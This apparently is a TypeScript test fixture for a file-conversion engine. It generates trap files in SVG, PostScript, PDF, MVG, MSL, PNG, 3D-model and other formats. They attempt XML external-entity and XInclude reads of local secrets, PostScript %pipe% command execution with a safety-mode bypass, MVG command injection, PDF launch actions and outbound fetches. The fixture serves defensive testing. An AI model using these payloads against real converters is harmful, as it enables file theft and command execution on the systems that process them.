import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { chunk } from '../../../engines/programs/sharp/png.ts'
import { pdfOf, streamOf } from '../../fixtures/pdf.ts'
import type { Lure, Trap } from './lure.ts'

const pixel = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#888' } })
  .png()
  .toBuffer()

/** Drawings, pages, models and pictures that refer to other files, or are scripts for a program. */
export const graphics: Trap = ({ folder, url, prey }) => {
  const file = (name: string) => `file://${folder}/${name}`
  const svg = (body: string, before = '') =>
    `<?xml version="1.0"?>${before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:xi="http://www.w3.org/2001/XInclude" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" width="128" height="128"><rect width="20" height="20" fill="#c33"/>${body}</svg>`
  const stylesheet = `<?xml-stylesheet type="text/css" href="${file('secret.css')}"?><?xml-stylesheet type="text/css" href="${url}/pi.css"?>`
  const entities = `<!DOCTYPE svg [<!ENTITY x SYSTEM "${file('secret.txt')}"><!ENTITY y SYSTEM "${url}/entity"><!ENTITY % d SYSTEM "${url}/e.dtd"> %d;]>`
  const ps = (body: string) =>
    `%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 90 90\n/Courier findfont 9 scalefont setfont 9 9 moveto\n${body}\nshowpage\n`
  const end = pixel.indexOf('IEND') - 4
  const withChunk = (type: string, data: Buffer) =>
    Buffer.concat([pixel.subarray(0, end), chunk(type, data), pixel.subarray(end)])
  const lures: Lure[] = [
    {
      what: 'pictures, uses, fonts and paints elsewhere',
      name: 'a.svg',
      content: svg(
        `<image width="64" height="64" xlink:href="${file('secret.png')}" sodipodi:absref="${folder}/secret.png"/><image width="64" height="64" href="${folder}/secret.png"/><image y="64" width="64" height="64" xlink:href="${url}/a.png"/>
        <use xlink:href="${url}/u.svg#x"/><use xlink:href="${file('secret.svg')}#x"/><style>@import url("${url}/b.css"); @import url("${file('secret.css')}"); @font-face { font-family: f; src: url("${url}/f.ttf"), url("${file('secret.ttf')}") }</style>
        <text y="90" font-family="f">text</text><rect fill="url(${url}/g.svg#g)" width="5" height="5"/><rect filter="url(${file('secret.svg')}#x)" width="5" height="5"/>
        <filter id="fe"><feImage xlink:href="${file('secret.png')}"/><feImage href="${url}/fe.png"/></filter><rect filter="url(#fe)" width="9" height="9"/>
        <foreignObject width="50" height="50"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${file('secret.html')}"/><img xmlns="http://www.w3.org/1999/xhtml" src="${url}/fo.png"/></foreignObject>
        <script xlink:href="${url}/s.js"/><script>fetch("${url}/fetched")</script>`,
        stylesheet,
      ),
    },
    {
      what: 'entities from elsewhere',
      name: 'e.svg',
      content: svg('<text y="50" font-size="8">&x;&y;</text>', entities),
    },
    {
      what: 'XInclude',
      name: 'i.svg',
      content: svg(
        `<text y="50"><xi:include parse="text" href="${file('secret.txt')}"/><xi:include parse="text" href=".?../../../../../../../..${folder}/secret.txt"/></text>`,
      ),
    },
    {
      what: 'a drawing in a drawing that looks outside',
      name: 'n.svg',
      content: svg(
        `<image width="64" height="64" xlink:href="data:image/svg+xml;base64,${Buffer.from(svg(`<image width="64" height="64" xlink:href="${file('secret.png')}"/><image width="64" height="64" xlink:href="${url}/n.png"/>`)).toString('base64')}"/>`,
      ),
    },
    ...['eps', 'ps'].flatMap((kind): Lure[] => [
      {
        what: 'reads a file',
        name: `r.${kind}`,
        content: ps(`(${folder}/secret.txt) (r) file 99 string readline pop show`),
      },
      { what: 'runs a file', name: `u.${kind}`, content: ps(`(${folder}/secret.txt) run (x) show`) },
      {
        what: 'runs a program',
        name: `p.${kind}`,
        content: ps(`(%pipe%touch ${prey}/pipe) (w) file closefile (x) show`),
      },
      {
        what: 'writes a file',
        name: `w.${kind}`,
        content: ps(`(${prey}/written) (w) file dup (x) writestring closefile (x) show`),
      },
      {
        what: 'takes its limits off first',
        name: `s.${kind}`,
        content: ps(
          `systemdict /setsafe known { } if .setsafe null mark /OutputFile (%pipe%touch ${prey}/device) /OutputDevice /pdfwrite finddevice putdeviceprops pop (x) show`,
        ),
      },
    ]),
    {
      what: 'a form that is elsewhere, actions and scripts',
      name: 'a.pdf',
      content: pdfWith(
        `/OpenAction << /S /Launch /F (${prey}/launched) /Win << /F (touch) >> >> /AA << /O << /S /URI /URI (${url}/uri) >> >>`,
        `<< /Type /XObject /Subtype /Image /Width 8 /Height 8 /BitsPerComponent 8 /ColorSpace /DeviceRGB /F << /FS /URL /F (${url}/f.png) >> /FFilter /DCTDecode /Length 0 >>`,
        `<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (${folder}/secret.pdf) /Page 0 >> /F (${folder}/secret.txt) /Length 0 >>`,
      ),
    },
    {
      what: 'a drawing of commands (MVG)',
      name: 'm.png',
      as: 'png',
      content: `push graphic-context\nviewbox 0 0 64 64\nimage over 0,0 64,64 '${folder}/secret.png'\nimage over 0,0 64,64 '${url}/mvg.png'\nfill 'url(${url}/fill.png"|touch ${prey}/mvg")'\npop graphic-context\n`,
      refused: 'UNSUPPORTED_FORMAT',
    },
    {
      what: 'a script (MSL)',
      name: 's.png',
      as: 'png',
      content: `<?xml version="1.0"?><image><read filename="${folder}/secret.png"/><write filename="${prey}/msl.png"/></image>`,
      refused: 'UNSUPPORTED_FORMAT',
    },
    {
      what: 'a profile that is a file',
      name: 'p.png',
      content: withChunk('tEXt', Buffer.from(`profile\0${folder}/secret.txt`)),
    },
    {
      what: 'a raw profile with a place in it',
      name: 'q.png',
      content: withChunk(
        'zTXt',
        Buffer.concat([
          Buffer.from('Raw profile type exif\0\0'),
          deflateSync(Buffer.from(`\nexif\n${folder.length}\n${Buffer.from(folder).toString('hex')}\n`)),
        ]),
      ),
    },
    {
      what: 'a picture that names another',
      name: 'x.xpm',
      content: `/* XPM */\nstatic char *x[] = {\n"2 1 1 1",\n"a c url(${url}/x.png)",\n"aa"};\n`,
    },
    {
      what: 'a mesh whose materials are elsewhere',
      name: 'a.obj',
      content: `mtllib ${folder}/secret.mtl\nmtllib ../../../../../../..${folder}/secret.mtl\nusemtl x\nv 0 0 0\nv 1 0 0\nv 0 1 0\nf 1 2 3\n`,
    },
    {
      what: 'a scene whose buffers are elsewhere',
      name: 'a.gltf',
      content: JSON.stringify({
        asset: { version: '2.0' },
        buffers: [
          { uri: `${folder}/secret.txt`, byteLength: 36 },
          { uri: file('secret.txt'), byteLength: 36 },
          { uri: `${url}/b.bin`, byteLength: 36 },
        ],
        bufferViews: [{ buffer: 0, byteLength: 36 }],
        images: [{ uri: `${folder}/secret.png` }, { uri: `${url}/t.png` }],
        accessors: [{ bufferView: 0, componentType: 5126, count: 3, type: 'VEC3' }],
        meshes: [{ primitives: [{ attributes: { POSITION: 0 } }] }],
        nodes: [{ mesh: 0 }],
        scenes: [{ nodes: [0] }],
        scene: 0,
      }),
    },
    {
      what: 'a scene with pictures elsewhere',
      name: 'a.dae',
      content: `<?xml version="1.0"?><!DOCTYPE COLLADA [<!ENTITY x SYSTEM "${file('secret.txt')}">]><COLLADA xmlns="http://www.collada.org/2005/11/COLLADASchema" version="1.4.1"><asset><up_axis>Y_UP</up_axis></asset><library_images><image id="i"><init_from>${file('secret.png')}</init_from></image></library_images><library_geometries><geometry id="g"><mesh><source id="p"><float_array id="f" count="9">0 0 0 1 0 0 0 1 0</float_array><technique_common><accessor source="#f" count="3" stride="3"><param name="X" type="float"/><param name="Y" type="float"/><param name="Z" type="float"/></accessor></technique_common></source><vertices id="v"><input semantic="POSITION" source="#p"/></vertices><triangles count="1"><input semantic="VERTEX" source="#v" offset="0"/><p>0 1 2</p></triangles></mesh></geometry></library_geometries><library_visual_scenes><visual_scene id="s"><node><instance_geometry url="#g"/></node></visual_scene></library_visual_scenes><scene><instance_visual_scene url="#s"/></scene></COLLADA>`,
    },
    {
      what: 'a program that imports (OpenSCAD)',
      name: 'a.scad',
      refused: 'UNSUPPORTED_FORMAT',
      content: `include <${folder}/secret.txt>\nuse <${folder}/secret.txt>\nimport("${folder}/secret.svg");\nsurface(file = "${folder}/secret.png");\ncube(3);\n`,
    },
    {
      what: 'Xfig with a picture elsewhere',
      name: 'a.fig',
      content: `#FIG 3.2\nLandscape\nCenter\nMetric\nA4\n100.00\nSingle\n-2\n1200 2\n2 5 0 1 0 -1 50 -1 -1 0.000 0 0 -1 0 0 5\n\t0 ${folder}/secret.png\n\t 100 100 900 100 900 900 100 900 100 100\n2 1 0 1 0 7 50 -1 -1 0.000 0 0 -1 0 0 2\n\t 100 100 900 900\n`,
    },
  ]
  return lures
}

/** Makes a PDF of one page with these entries in its catalogue and these objects, which its page draws. */
function pdfWith(catalogue: string, ...objects: string[]): Buffer {
  const names = objects.map((_, index) => `/X${index} ${index + 5} 0 R`).join(' ')
  const content = `0 0 1 rg 0 0 9 9 re f ${objects.map((_, index) => `/X${index} Do`).join(' ')}`
  const all = [
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 90 90] /Contents 4 0 R /Resources << /XObject << ${names} >> >> >>`,
    streamOf(content),
    ...objects.map((object) => `${object}\nstream\n\nendstream`),
  ]
  return pdfOf(all)
}
